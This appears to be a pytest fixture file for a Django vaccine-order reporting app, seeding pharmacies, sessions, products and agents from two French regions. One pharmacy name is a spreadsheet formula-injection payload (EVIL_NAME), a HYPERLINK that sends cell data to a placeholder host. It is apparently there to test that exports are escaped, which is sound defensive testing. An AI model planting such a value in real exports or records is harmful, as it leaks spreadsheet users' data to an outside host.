"""The reports' cast: two regions of orders (Île-de-France 11, Auvergne-Rhône-Alpes 84), an ARS agent of
each, an SpF logistics agent, two past sessions (one published, one not yet), three products (a vaccine in
vials, a vaccine in boxes, syringes without doses)."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, time, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from accounts.roles import ROLE_ARS, ROLE_LOGISTICS
from tests import factories
from tests.psc import login_agent
from vaccine_orders.identifiers import make_finess
from vaccine_orders.orders.models import Order, OrderLine, Product

PARIS = ZoneInfo("Europe/Paris")
EVIL_NAME = '=HYPERLINK("http://exemple.invalid/?v="&A1,"Cliquez")'


def make_agent(*, region_code: str | None = None, role: str = ROLE_ARS, email: str | None = None):
    kwargs = {"email": email} if email else {}
    user = factories.StaffUserFactory(
        first_name="Agnès",
        last_name="Leroy",
        is_staff=region_code is None,
        region=factories.region(region_code) if region_code else None,
        **kwargs,
    )
    user.groups.add(Group.objects.get(name=role))
    return user


def paris_at(day, hour: int, minute: int = 0) -> datetime:
    return datetime.combine(day, time(hour, minute), tzinfo=PARIS)


def make_session(*, days_ago: int, published_in_days: float | None = None):
    """A past Monday-to-Tuesday-like window `days_ago` days back (08:00 to 23:00 the next day, Paris). Its
    confirmations are published the next day at 18:00, or `published_in_days` from now."""
    day = timezone.localdate() - timedelta(days=days_ago)
    opens = paris_at(day, 8)
    closes = paris_at(day + timedelta(days=1), 23)
    published = (
        paris_at(day + timedelta(days=2), 18)
        if published_in_days is None
        else timezone.now() + timedelta(days=published_in_days)
    )
    return factories.OrderSessionFactory(opens_at=opens, closes_at=closes, confirmation_published_at=published)


def make_pharmacy(department: str, number: int, **kwargs):
    payload = f"{department}{number:06d}" if len(department) == 2 else f"{department}{number:05d}"
    return factories.PharmacyFactory(
        finess=make_finess(payload),
        department=factories.department(department),
        phone=f"01 23 45 {number % 100:02d} 00",
        **kwargs,
    )


@dataclass
class Seed:
    published: object
    pending: object
    vaccine: Product
    boxed: Product
    syringes: Product
    paris: object
    bobigny: object
    lyon: object
    lines: list[OrderLine] = field(default_factory=list)

    def order(self, pharmacy, session, *, status=Order.Status.REGISTERED):
        return factories.OrderFactory(
            pharmacy=pharmacy,
            session=session,
            status=status,
            validated_at=session.opens_at + timedelta(hours=2),
            cancelled_at=session.opens_at + timedelta(hours=3) if status == Order.Status.CANCELLED else None,
        )

    def line(self, order, effector, product, requested: int, confirmed: int | None = None) -> OrderLine:
        line = factories.OrderLineFactory(
            order=order,
            effector=effector,
            product=product,
            quantity_requested=requested,
            quantity_confirmed=confirmed,
        )
        self.lines.append(line)
        return line


@pytest.fixture
def seed(db) -> Seed:
    vaccine = factories.ProductFactory(
        code="comirnaty", name="Comirnaty", short_name="Pfizer", unit=Product.Unit.VIAL, doses_per_vial=6, sort_order=1
    )
    boxed = factories.ProductFactory(
        code="spikevax-boite",
        name="Spikevax (boîte)",
        short_name="Moderna",
        unit=Product.Unit.BOX,
        units_per_box=10,
        doses_per_vial=10,
        sort_order=2,
    )
    syringes = factories.ProductFactory(
        code="seringues",
        name="Seringues 1 ml",
        short_name="Seringues",
        kind=Product.Kind.MEDICAL_DEVICE,
        unit=Product.Unit.BOX,
        units_per_box=100,
        doses_per_vial=None,
        sort_order=3,
    )
    published = make_session(days_ago=14)
    pending = make_session(days_ago=3, published_in_days=2)
    paris = make_pharmacy("75", 11, name="Pharmacie du Marché", address="3 rue de la Paix", city="Paris")
    bobigny = make_pharmacy("93", 12, name="Pharmacie de la Gare", address="8 avenue Jean Jaurès", city="Bobigny")
    lyon = make_pharmacy("69", 13, name=EVIL_NAME, address="1 quai du Rhône", city="Lyon", postal_code="69001")
    seed = Seed(published, pending, vaccine, boxed, syringes, paris, bobigny, lyon)

    o = seed.order(paris, published)
    seed.line(o, factories.own_effector(paris, "pharmacist"), vaccine, 5, 4)
    seed.line(o, factories.attached_effector(paris, "doctor"), vaccine, 3, 3)
    seed.line(o, factories.attached_effector(paris, "doctor"), boxed, 2, 2)
    seed.line(o, factories.own_effector(paris, "nurse"), boxed, 2, 1)
    seed.line(o, factories.own_effector(paris, "pharmacist"), syringes, 4, 4)
    seed.line(o, factories.attached_effector(paris, "ehpad"), vaccine, 10, 8)
    o = seed.order(bobigny, published)
    seed.line(o, factories.own_effector(bobigny, "pharmacist"), vaccine, 7, 7)
    seed.line(o, factories.attached_effector(bobigny, "doctor"), boxed, 1, 1)
    o = seed.order(paris, pending)
    # Confirmed by logistics but not published yet: must not appear anywhere.
    seed.line(o, factories.own_effector(paris, "pharmacist"), vaccine, 6, 5)
    seed.line(o, factories.attached_effector(paris, "midwife"), vaccine, 2)
    # A cancelled order whose line was left behind (cancelling deletes lines; the reports must not trust it).
    o = seed.order(bobigny, pending, status=Order.Status.CANCELLED)
    factories.OrderLineFactory(
        order=o, effector=factories.own_effector(bobigny, "pharmacist"), product=vaccine, quantity_requested=99
    )
    # Region 84: large figures, so that any leak shows.
    o = seed.order(lyon, published)
    seed.line(o, factories.own_effector(lyon, "pharmacist"), vaccine, 500, 450)
    seed.line(o, factories.attached_effector(lyon, "doctor"), vaccine, 400, 400)
    o = seed.order(lyon, pending)
    seed.line(o, factories.own_effector(lyon, "pharmacist"), vaccine, 300)
    return seed


@pytest.fixture
def ars_idf(db):
    return make_agent(region_code="11", email="agent.idf@ars.sante.fr")


@pytest.fixture
def ars_ara(db):
    return make_agent(region_code="84", email="agent.ara@ars.sante.fr")


@pytest.fixture
def spf_agent(db):
    return make_agent(role=ROLE_LOGISTICS, email="logistique@santepubliquefrance.fr")


@pytest.fixture
def client_idf(client, ars_idf):
    return login_agent(client, ars_idf)


@pytest.fixture
def client_spf(client, spf_agent):
    return login_agent(client, spf_agent)
